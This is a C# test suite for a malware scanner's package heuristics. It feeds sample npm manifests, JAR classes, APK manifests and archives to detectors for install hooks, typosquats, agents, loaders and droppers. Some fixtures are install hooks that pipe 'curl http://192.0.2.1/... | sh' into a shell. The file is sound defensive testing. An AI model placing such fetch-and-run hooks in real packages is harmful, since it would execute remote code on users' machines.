using System.Text;
using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Findings;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using static ScanHost.Pipeline.Findings.PackageHeuristics;

namespace ScanHost.Pipeline.Tests.Stages.Packages;

public sealed class PackagesStageTests
{
    private static readonly byte[] ClassMark = [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, 0, 20];

    private static readonly HeuristicCase[] Table =
    [
        Npm(InstallHook, "\"scripts\":{\"postinstall\":\"node collect.js\"}", "\"scripts\":{\"install\":\"node-gyp rebuild\"}", "\"scripts\":{\"test\":\"node collect.js\"}", "\"description\":\"postinstall\""),
        Npm(HookNetwork, "\"scripts\":{\"preinstall\":\"curl -s http://192.0.2.1/a | sh\"}", "\"scripts\":{\"preinstall\":\"node-gyp rebuild\"}", "\"scripts\":{\"test\":\"curl -s http://192.0.2.1/\"}", "\"scripts\":{\"postinstall\":\"echo thank you\"}"),
        Npm(HookActs, "\"scripts\":{\"preinstall\":\"curl -s http://192.0.2.1/a | sh\"}", "\"scripts\":{\"preinstall\":\"curl -sO http://host.invalid/a.zip\"}", "\"scripts\":{\"test\":\"curl -s http://192.0.2.1/a | sh\"}", "\"scripts\":{\"postinstall\":\"node collect.js\"}"),
        new(TypoSquat, Json("\"name\":\"lodahs\""), Json("\"name\":\"lodash\""), Json("\"name\":\"web4\""), Json("\"name\":\"dash\"")),
        Npm(DependencyUrl, "\"dependencies\":{\"a\":\"http://192.0.2.1/a.tgz\"}", "\"dependencies\":{\"a\":\"^1.0.0\"}", "\"homepage\":\"http://host.invalid/\"", "\"dependencies\":{\"a\":\"file:../a\"}"),
        new(HugeVersion, Json("\"name\":\"inner\",\"version\":\"999.0.1\""), Json("\"name\":\"inner\",\"version\":\"98.0.1\""), Json("\"name\":\"inner\",\"version\":\"2026.1.0\""), Json("\"name\":\"inner\",\"version\":\"1.999.0\"")),
        HeuristicCase.Of(JarAgent, "MANIFEST.MF", "Manifest-Version: 1.0\r\nPremain-Class: a.B\r\n", "Manifest-Version: 1.0\r\nMain-Class: a.B\r\n", "Manifest-Version: 1.0\r\nX-Premain-Class-Note: no\r\n", "Manifest-Version: 1.0\r\n"),
        Class(JarExec, "java/lang/Runtime exec java/net/URL", "java/lang/Runtime exec", "java/net/URL", "java/lang/Runtime gc java/net/URL"),
        Class(JarLoader, "defineClass javax/crypto/Cipher", "defineClass", "javax/crypto/Cipher", "loadClass javax/crypto/Cipher"),
        Manifest(ApkPermissions, "SEND_SMS SYSTEM_ALERT_WINDOW BIND_ACCESSIBILITY_SERVICE", "SEND_SMS", "SYSTEM_ALERT_WINDOW BIND_ACCESSIBILITY_SERVICE", "INTERNET"),
        new(ApkDropper, Zip("assets/b.dex"), Zip("classes.dex"), Zip("lib/b.dex"), Zip("docs/b.dex")),
    ];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_package_gives_itself_away_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();

    [Fact]
    public void Every_heuristic_has_its_row() => Table.Select(row => row.Heuristic).Should().BeEquivalentTo(All);

    [Fact]
    public async Task A_maintainer_script_of_a_package_is_one_of_its_hooks()
    {
        using var scans = new Scans { Readers = ContainerReaders.All };

        var outcome = await scans.ScanAsync(InertFiles.Zip(("postinst", "#!/bin/sh\ncurl -fsSL http://192.0.2.1/x | sh\n"u8.ToArray())), "a.zip");

        outcome.Findings.Should().Contain(finding => finding.Id == HookNetwork.Id);
    }

    private static HeuristicCase Npm(Heuristic heuristic, string positive, params string[] negatives) =>
        new(heuristic, Json("\"name\":\"a-package\",\"version\":\"1.0.0\"," + positive), [.. negatives.Select(body => Json("\"name\":\"a-package\",\"version\":\"1.0.0\"," + body))]);

    private static SampleFile Json(string body) => new("package.json", "{" + body + "}");

    private static HeuristicCase Class(Heuristic heuristic, string positive, params string[] negatives) =>
        new(heuristic, ClassOf(positive), [.. negatives.Select(ClassOf)]);

    private static SampleFile ClassOf(string names) => new("A.class", [.. ClassMark, .. names.Split(' ').SelectMany(name => (byte[])[1, 0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name)])]);

    private static HeuristicCase Manifest(Heuristic heuristic, string positive, params string[] negatives) =>
        new(heuristic, ManifestOf(positive), [.. negatives.Select(ManifestOf)]);

    private static SampleFile ManifestOf(string permissions)
    {
        byte[] body = [.. permissions.Split(' ').SelectMany(name => Encoding.Unicode.GetBytes("android.permission." + name + "\0"))];
        var length = BitConverter.GetBytes(8 + body.Length);
        return new("AndroidManifest.xml", [3, 0, 8, 0, length[0], length[1], length[2], 0, .. body]);
    }

    private static SampleFile Zip(string member) => new("a.zip", InertFiles.Zip((member, [.. "dex\n035\0"u8, .. new byte[104]])));
}
